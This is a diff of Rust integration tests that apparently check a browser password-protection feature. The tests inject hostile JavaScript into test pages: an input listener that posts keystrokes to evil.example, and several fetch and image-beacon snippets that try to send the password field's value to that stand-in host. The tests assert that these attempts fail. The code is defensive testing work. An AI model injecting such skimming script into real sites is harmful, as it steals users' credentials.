@@ -142,17 +142,26 @@ async fn scripts_wait_until_the_page_is_left() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn pages_that_others_had_their_hands_in_get_none() {
+async fn sites_that_others_had_their_hands_in_get_none() {
     let world = world().await;
     world.page(HOST, "classic").await;
-    world.perform(evaluate("document.addEventListener('input', (e) => fetch('https://evil.example/sign-in/to/evil', { method: 'POST', body: e.target.value })); 0")).await;
-    let message = world.refuses("#password", PASSWORD).await;
-    assert!(message.contains("load it again"), "{message}");
-    world.perform(Action::Reload).await;
-    world.fills("#password", PASSWORD).await;
+    let listen =
+        "document.addEventListener('input', (e) => fetch('https://evil.example/sign-in/to/evil',
+        { method: 'POST', body: e.target.value })); 0";
+    world.perform(evaluate(listen)).await;
+    // What a script left behind in the site's storage may still be there.
+    for _ in 0..2 {
+        let message = world.refuses("#password", PASSWORD).await;
+        assert!(message.contains("start a new session"), "{message}");
+        world.perform(Action::Reload).await;
+    }
+    world.leaks_nothing();
+    world.end().await;
+}
 
-    // The same of outside clients.
-    world.page(HOST, "classic?again").await;
+#[tokio::test(flavor = "multi_thread")]
+async fn browsers_that_others_had_their_hands_in_have_none() {
+    let world = world().await;
     let (to_browser, incoming) = mpsc::channel(16);
     let (outgoing, mut from_browser) = mpsc::channel(1024);
     let browser = std::sync::Arc::clone(&world.stage.browser);
@@ -163,15 +172,51 @@ async fn pages_that_others_had_their_hands_in_get_none() {
     let hello = json!({"id": 1, "method": "Browser.getVersion"}).to_string();
     to_browser.send(hello.into()).await.unwrap();
     from_browser.recv().await.unwrap();
+    world.page(HOST, "classic").await;
     let message = world.refuses("#password", PASSWORD).await;
-    assert!(message.contains("client is connected"), "{message}");
+    assert!(message.contains("client"), "{message}");
     drop(to_browser);
     client.await.unwrap().unwrap();
+    world.page("www.bank.example", "classic").await;
     let message = world.refuses("#password", PASSWORD).await;
-    assert!(message.contains("load it again"), "{message}");
-    world.perform(Action::Reload).await;
-    world.fills("#password", PASSWORD).await;
+    assert!(message.contains("client"), "{message}");
     world.leaks_nothing();
+    world.end().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_takes_it_away() {
+    let world = world().await;
+    let form = "<form method=post action='/sign-in/redirect?status=307&to=https%3A%2F%2Fevil.example%2Fsign-in%2Fto%2Fevil'>
+        <input id=password name=password type=password><button id=send>x</button></form>";
+    world.made(HOST, form).await;
+    world.fills("#password", PASSWORD).await;
+    for code in [
+        "fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ password: value }) })",
+        "fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ a: value }) })",
+        "fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: 'x' + value })",
+        "fetch('https://evil.example/sign-in/to/evil?p=' + encodeURIComponent(value))",
+        "fetch('/sign-in/to/here?p=' + encodeURIComponent(value))",
+        "new Promise((done, fail) => { const i = new Image(); i.onerror = fail; i.onload = done; i.src = 'https://evil.example/sign-in/to/evil/' + encodeURIComponent(value) })",
+        "fetch('https://evil.example/sign-in/to/evil', { headers: { 'x-p': encodeURIComponent(value) } })",
+    ] {
+        let code = format!(
+            "(() => {{ const value = document.querySelector('#password').value; return {code}.then(() => 'arrived', () => 'failed') }})()"
+        );
+        assert_eq!(world.stage.evaluate(&code).await, "failed", "{code}");
+    }
+    // Others go on as ever, and so does the site's own.
+    let other = "fetch('https://evil.example/sign-in/to/other', { method: 'POST', mode: 'no-cors', body: 'x' }).then(() => 'arrived')";
+    assert_eq!(world.stage.evaluate(other).await, "arrived");
+    world.click("#send").await;
+    let take = world.taken(|take| take.path == "/sign-in/redirect").await;
+    assert!(take.body.contains("canary"));
+    world.page("www.bank.example", "blank").await;
+    let takes = world.stage.site.takes();
+    for take in takes.iter().filter(|take| take.path != "/sign-in/redirect") {
+        world.says_nothing_in("what went elsewhere", &format!("{take:?}"));
+        assert!(!take.path.ends_with("/evil"), "{take:?}");
+    }
     world.end().await;
 }
 
